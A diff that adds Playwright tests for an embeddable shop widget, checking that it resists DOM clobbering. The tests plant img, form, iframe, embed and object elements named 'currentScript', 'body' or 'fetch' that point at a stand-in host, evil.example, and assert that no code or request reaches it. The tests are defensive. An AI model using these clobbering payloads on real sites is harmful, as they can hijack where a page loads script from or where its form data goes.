@@ -1,3 +1,4 @@
+import type { Page } from '@playwright/test';
 import { expect, test, type World } from './world.ts';
 
 interface Carts {
@@ -52,6 +53,110 @@ test.describe('policies', () => {
       expect(violations).toEqual([]);
     });
   }
+});
+
+test.describe('elements that bear the names of what the code reads', () => {
+  const EVIL = 'https://evil.example';
+  const image = `<img name="currentScript" src="${EVIL}/x">`;
+  const named = [
+    image,
+    image + image,
+    `<form name="currentScript" action="${EVIL}/x"><input name="src" value="${EVIL}/x"></form>`,
+    `<embed name="currentScript" src="${EVIL}/x">`,
+    `<object name="currentScript" data="${EVIL}/x"></object>`,
+    `<iframe name="currentScript" src="${EVIL}/x"></iframe>`,
+  ];
+  const policy = (world: World) =>
+    `default-src 'none'; script-src 'nonce-bread' 'strict-dynamic'; connect-src ${world.api}; img-src ${world.api}; require-trusted-types-for 'script'`;
+  const kinds: Readonly<
+    Record<string, { attributes: Readonly<Record<string, string>>; headers?: (world: World) => Record<string, string> }>
+  > = {
+    'a module': { attributes: {} },
+    'a classic script': { attributes: { type: 'absent' } },
+    'a module under a strict policy': {
+      attributes: { nonce: 'bread' },
+      headers: world => ({ 'content-security-policy': policy(world) }),
+    },
+    'a classic script under a strict policy': {
+      attributes: { type: 'absent', nonce: 'bread' },
+      headers: world => ({ 'content-security-policy': policy(world) }),
+    },
+  };
+
+  /** What the page asks the other origin for, beside the content that the named elements show by themselves. */
+  const watchEvil = async (page: Page) => {
+    const asked: string[] = [];
+    page.on('request', request => {
+      const { pathname, origin } = new URL(request.url());
+      if (origin === EVIL && pathname !== '/x') asked.push(`${request.resourceType()} ${pathname}`);
+    });
+    await page.route(`${EVIL}/**`, route =>
+      route.fulfill({
+        contentType: 'text/javascript',
+        headers: { 'access-control-allow-origin': '*' },
+        body: 'globalThis.owned = true',
+      }),
+    );
+    return asked;
+  };
+
+  const shops = async (page: Page, world: World, units = 1) => {
+    await page.getByRole('button', { name: 'Add to cart' }).click();
+    await expect(page.getByRole('dialog')).toContainText('Bread knife');
+    await expect.poll(() => quantities(world)).toEqual([units]);
+    expect(await page.evaluate(() => 'owned' in window)).toBe(false);
+  };
+
+  for (const [kind, { attributes, headers }] of Object.entries(kinds)) {
+    test(`one called currentScript does not say where the code of ${kind} comes from`, async ({ page, world }) => {
+      const asked = await watchEvil(page);
+      for (const [index, html] of named.entries()) {
+        const body = html + KNIFE + DRAWER + world.script(attributes);
+        await page.goto(
+          world.serve('/named', { html: world.html(body, { script: '' }), headers: headers?.(world) ?? {} }),
+        );
+        await shops(page, world, index + 1);
+        expect(asked, html).toEqual([]);
+      }
+    });
+  }
+
+  test('a script in an image of the page is no script that the code comes by', async ({ page, world }) => {
+    const tag = world.script({ type: 'absent', 'data-client-id': 'absent' });
+    const drawn = tag.replace('<script src=', '<svg><script href=').replace('></script>', '></script></svg>');
+    const idle = `<script type="text/plain" src="${world.cdn}/kiosk/kiosk.js" data-client-id="demo-client" data-api-host="${world.api}"></script>`;
+    await page.goto(world.serve('/svg', { html: world.html(idle + KNIFE + DRAWER + drawn, { script: '' }) }));
+    await shops(page, world);
+  });
+
+  test('nor do other names throw or keep anything from a shopper', async ({ page, world }) => {
+    const asked = await watchEvil(page);
+    const names = ['adoptedStyleSheets', 'body', 'head', 'readyState', 'hidden', 'visibilityState', 'activeElement'];
+    const globals = ['kiosk', 'dataLayer', 'scheduler', 'memoryStorage', 'addEventListener', 'fetch', 'trustedTypes'];
+    const body = `${names.map(name => `<form name="${name}" action="${EVIL}/sent"><input name="push"></form>`).join('')}
+      ${globals.map(name => `<img id="${name}" alt="">`).join('')}
+      <form style="position: fixed; inset: 0 auto auto 0; padding: 40px" id="around"><input name="closest"></form>
+      ${KNIFE}<a href="#kiosk-cart">Your basket</a>${world.script({ 'data-analytics': 'datalayer' })}`;
+    await page.goto(world.serve('/names', { html: world.html(body, { script: '' }) }));
+    await page.mouse.click(10, 10);
+    await expect(page.getByText('€39.00')).toBeVisible();
+    await page.mouse.click(12, 12);
+    await page.getByRole('button', { name: 'Add to cart' }).click();
+    await expect.poll(() => quantities(world)).toEqual([1]);
+    await page.getByRole('link', { name: 'Your basket' }).click();
+    await expect(page.getByRole('dialog')).toContainText('Bread knife');
+    expect(await page.locator('body > kiosk-cart-drawer').count()).toBe(1);
+    const said = () =>
+      page.evaluate(() => {
+        const { kiosk, dataLayer } = window as unknown as {
+          kiosk: { version?: string };
+          dataLayer: { event?: string }[];
+        };
+        return [typeof kiosk.version, dataLayer.flatMap(({ event }) => event ?? [])];
+      });
+    await expect.poll(said).toEqual(['string', ['add_to_cart', 'view_cart']]);
+    expect(asked).toEqual([]);
+  });
 });
 
 test.describe('presses before the code has come', () => {
